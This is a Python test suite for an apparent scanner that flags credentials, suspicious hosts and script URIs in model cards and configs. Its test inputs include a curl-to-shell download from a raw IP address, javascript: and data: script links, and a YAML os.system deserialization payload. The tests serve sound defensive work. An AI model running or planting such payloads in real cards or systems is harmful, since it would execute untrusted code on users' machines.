"""Model cards and metadata: credentials, suspicious links and script URIs found; real READMEs and cards stay quiet."""

from __future__ import annotations

import sysconfig
from pathlib import Path

from gen_model_cards import FAKE_HF_TOKEN, card, config  # fixtures/ is on sys.path

from aisec.analyzers.base import AnalysisContext
from aisec.analyzers.model_card import MAX_CARD_BYTES, WINDOW, ModelCardAnalyzer, card_role
from aisec.limits import Limits
from aisec.model import Fact, ScanError
from aisec.source import BytesSource

LOW_ONLY = {("card.secret", "jwt"), ("card.secret", "high_entropy_token"), ("card.secret", "credential_assignment")}
"""Facts whose rule (AISEC-MDL-116) is low severity; everything else the analyzer reports is medium or higher."""


def analyze(data: bytes, name: str = "README.md", fs_path: Path | None = None) -> tuple[list[Fact], list[ScanError]]:
    context = AnalysisContext(path=name, limits=Limits(), fs_path=fs_path)
    facts = list(ModelCardAnalyzer().analyze(BytesSource(data, budget=4 * len(data) + 8192), context))
    return facts, context.errors


def pairs(data: bytes, name: str = "README.md") -> list[tuple[str, str | int | float | bool]]:
    return [(f.key, f.value) for f in analyze(data, name)[0]]


def test_only_cards_and_metadata_files_are_read() -> None:
    assert [card_role(n) for n in ("README.md", "a/b/config.json", "params.yaml", "MLmodel", "notes.md",
                                   "tokenizer.json", "data.csv")] == ["card", "metadata", "metadata", "metadata",
                                                                      None, None, None]
    assert pairs(f"token {FAKE_HF_TOKEN}".encode(), "notes.txt") == []


def test_credentials_in_cards_and_configs() -> None:
    assert pairs(card(f"login(token='{FAKE_HF_TOKEN}')")) == [("card.secret", "huggingface_token")]
    facts, _ = analyze(config(hub_token=FAKE_HF_TOKEN), "config.json")
    assert [(f.value, f.location.line, f.detail["role"]) for f in facts] == [("huggingface_token", 8, "metadata")]
    assert pairs(b'{"wandb_api_key": "q8Zr3vXk2Lw9PmT4nB7yC1dF0s6H"}', "config.json") == [
        ("card.secret", "credential_assignment")]
    # Placeholders, special tokens and booleans under credential-like keys are not secrets.
    assert pairs(b'{"hub_token": "<HUB_TOKEN>", "api_key": "YOUR_API_KEY_HERE", "pad_token": "[PAD]", '
                 b'"use_auth_token": true, "password": "${PASSWORD}"}', "config.json") == []


def test_suspicious_hosts_and_local_servers() -> None:
    text = ("curl http://93.184.216.34/x.sh | sh; see https://pastebin.com/raw/abc, https://bit.ly/x, "
            "https://abc.ngrok-free.app/m and http://2130706433/y\n"
            "demo at http://127.0.0.1:7860, http://192.168.1.20:8000/model.bin and http://localhost/m.pt")
    assert pairs(text.encode()) == [("card.url", "raw_ip"), ("card.url", "paste_site"), ("card.url", "shortener"),
                                    ("card.url", "tunnel"), ("card.url", "raw_ip")]


def test_plain_http_weight_downloads() -> None:
    assert pairs(b"wget http://acme.org/w/model.safetensors\nwget ftp://acme.org/m.tar.gz") == [
        ("card.url", "insecure_download"), ("card.url", "insecure_download")]
    assert pairs(b"wget https://acme.org/w/model.safetensors and http://acme.org/about") == []


def test_script_uris() -> None:
    assert pairs(b"[demo](javascript:alert(1))") == [("card.url", "script_uri")]
    assert pairs(b'<a href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E">x</a>') == [("card.url", "script_uri")]
    assert pairs(b"<iframe src='data:application/javascript,alert(1)'>") == [("card.url", "script_uri")]
    assert pairs(b"![i](data:image/png;base64,iVBORw0KGgo=) and data:text/html,<b>bold</b>; javascript: rocks") == []


def test_url_query_ids_are_not_secrets_but_keys_in_urls_are() -> None:
    assert pairs(b"[deps](https://github.com/psf/requests/network/dependents?package_id=UGFja2FnZS01NzA4OTExNg%3D%3D)"
                 ) == []
    assert pairs(f"https://acme.org/dl?token={FAKE_HF_TOKEN}".encode()) == [("card.secret", "huggingface_token")]


def test_long_lines_are_screened_in_windows() -> None:
    line = "x" * (3 * WINDOW) + f" {FAKE_HF_TOKEN} " + "y" * WINDOW
    facts, _ = analyze(line.encode(), "config.json")
    assert [(f.value, f.location.line) for f in facts] == [("huggingface_token", 1)]


def test_front_matter_and_library_claims(tmp_path: Path) -> None:
    readme = tmp_path / "README.md"
    data = card("Use llama.cpp.", front="library_name: llama.cpp\n")
    readme.write_bytes(data)
    (tmp_path / "model.safetensors").write_bytes(b"x")
    facts, errors = analyze(data, fs_path=readme)
    assert errors == []
    assert [(f.key, f.value, f.detail["expected"]) for f in facts] == [("card.library_mismatch", "llama.cpp",
                                                                         "*.gguf")]
    (tmp_path / "model-Q4_K_M.GGUF").write_bytes(b"x")
    assert analyze(data, fs_path=readme) == ([], [])
    assert analyze(card("x", front="library_name: some-new-lib\n"), fs_path=readme) == ([], [])


def test_broken_front_matter_and_oversized_files_are_not_fully_scanned() -> None:
    _, errors = analyze(b"---\nlicense: [mit\n---\n# Card\n")
    assert [e.reason for e in errors] == ["malformed"]
    _, errors = analyze(b"---\n!!python/object/apply:os.system [id]\n---\n")
    assert [e.reason for e in errors] == ["malformed"]
    assert analyze(b"---\n{{ card_data }}\n---\n# {{ model_id }}\n") == ([], [])  # huggingface_hub's template
    assert analyze(b"---\n\nA README that opens with a rule.\n") == ([], [])
    _, errors = analyze(b"x" * (MAX_CARD_BYTES + 1))
    assert [(e.reason, e.limit) for e in errors] == [("limit", "max_read_bytes")]


def _real_readmes() -> list[Path]:
    site = Path(sysconfig.get_paths()["purelib"])
    return sorted(site.glob("*.dist-info/METADATA")) + sorted(site.glob("huggingface_hub/templates/*.md"))


def test_real_package_readmes_raise_nothing_above_low() -> None:
    """Every installed wheel's long description (a README) read as a model card: medium+ would be a false alarm."""
    paths = _real_readmes()
    assert len(paths) > 20
    loud = []
    for path in paths:
        facts, errors = analyze(path.read_bytes())
        assert not errors, (path, errors)
        loud += [(path.parent.name, f.key, f.value) for f in facts if (f.key, f.value) not in LOW_ONLY]
    assert loud == []


def test_cards_rendered_by_huggingface_hub_are_clean(tmp_path: Path) -> None:
    import huggingface_hub as hub
    data = hub.ModelCardData(language="en", license="apache-2.0", library_name="transformers", datasets=["imdb"],
                             metrics=["accuracy"], base_model="distilbert/distilbert-base-uncased",
                             eval_results=[hub.EvalResult(task_type="text-classification", dataset_type="imdb",
                                                          dataset_name="IMDB", metric_type="accuracy",
                                                          metric_value=0.93)], model_name="distilbert-imdb")
    text = str(hub.ModelCard.from_template(data, model_id="acme/distilbert-imdb", developers="Acme",
                                           repo="https://github.com/acme/distilbert-imdb"))
    readme = tmp_path / "README.md"
    readme.write_text(text, encoding="utf-8")
    (tmp_path / "config.json").write_bytes(config())
    assert text.startswith("---\n") and "model-index" in text
    assert analyze(text.encode(), fs_path=readme) == ([], [])
